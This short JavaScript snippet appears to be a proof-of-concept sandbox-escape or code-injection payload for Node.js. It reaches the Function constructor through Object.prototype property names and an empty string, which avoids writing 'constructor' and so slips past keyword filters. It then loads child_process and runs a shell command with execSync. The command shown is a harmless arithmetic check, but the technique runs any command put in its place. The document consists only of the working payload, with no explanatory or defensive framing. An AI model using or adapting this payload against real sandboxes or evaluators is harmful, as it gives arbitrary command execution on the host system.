const k=Object.getOwnPropertyNames(Object.prototype)[0];
const {[k]:a}=''; const {[k]:F}=a; F('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
